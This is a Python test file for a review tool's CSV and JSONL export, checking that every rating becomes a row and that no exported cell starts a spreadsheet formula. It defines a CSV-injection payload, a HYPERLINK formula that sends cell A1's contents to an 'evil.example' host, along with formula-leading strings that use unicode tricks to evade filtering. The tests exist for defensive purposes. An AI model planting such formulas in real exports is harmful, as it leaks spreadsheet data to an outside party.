"""Exports carry every rating, and no cell of them is a formula."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aftertune.reviews.export import Texts, as_csv, as_jsonl, cell, rows
from aftertune.reviews.queue import with_ratings
from aftertune.values.review import Safety, SafetyCategory
from tests.aftertune.reviews.campaigns import COMPARISON, campaign, grade, item, preference

HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"click")'


def test_every_rating_is_a_row() -> None:
    danger = Safety(category=SafetyCategory.PRIVACY, note="+1 555 0100")
    said = [grade("it-0", "ann", 4, safety=danger, why="@home"), grade("it-0", "bob", None, 0)]
    found = rows(campaign(), with_ratings([item(0, 0.5)], said), {"it-0": Texts("Q?", (HOSTILE,))})
    lines = [json.loads(line) for line in as_jsonl(found).splitlines()]
    assert [(line["reviewer"], line["values"], line["labels"]) for line in lines] == [
        ("ann", {"right": 4, "usable": 1}, {"right": None, "usable": None}),
        ("bob", {"right": None, "usable": 0}, {"right": None, "usable": None}),
    ]
    assert lines[0]["answers"] == [HOSTILE]
    table = list(csv.DictReader(io.StringIO(as_csv(found, campaign()))))
    assert [row["answer_0"] for row in table] == [f"'{HOSTILE}"] * 2
    assert (table[0]["safety"], table[0]["safety_note"], table[0]["why"]) == (
        "privacy",
        "'+1 555 0100",
        "'@home",
    )
    assert (table[0]["value_right"], table[1]["value_right"], table[0]["probability"]) == ("4", "", "0.5")


def test_a_comparison_tells_what_stood_left() -> None:
    said = [preference("it-0", "ann", -1, swapped=True), preference("it-0", "bob", -1)]
    found = rows(campaign(COMPARISON), with_ratings([item(0)], said), {"it-0": Texts(None, ("a", None))})
    assert [row["left"] for row in found] == ["v2", "v1"]
    table = list(csv.DictReader(io.StringIO(as_csv(found, campaign(COMPARISON)))))
    assert [(row["value_preference"], row["answer_0"], row["answer_1"]) for row in table] == [
        ("-1", "a", "")
    ] * 2


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0@x", "\ufeff=1", "＝1"),
        *("\u3000=1", "\x0b+1", "\x1c=1", "\u202e=1", "\u200e \u2060-1", "\u2028@x", " \t=1"),
    ],
    ids=ascii,
)
def test_what_a_spreadsheet_may_run_is_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@given(st.text())
def test_cells_survive_and_never_begin_a_formula(text: str) -> None:
    said = [grade("it-0", "ann", 1, why=text)]
    found = rows(campaign(), with_ratings([item(0)], said), {"it-0": Texts(text, (text,))})
    (row,) = csv.DictReader(io.StringIO(as_csv(found, campaign()), newline=""))
    assert row["why"] in (text, f"'{text}")
    assert not row["why"].lstrip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("value", [None, 3, 0.5, True, "plain", ""])
def test_other_cells_stay(value: object) -> None:
    assert cell(value) is value
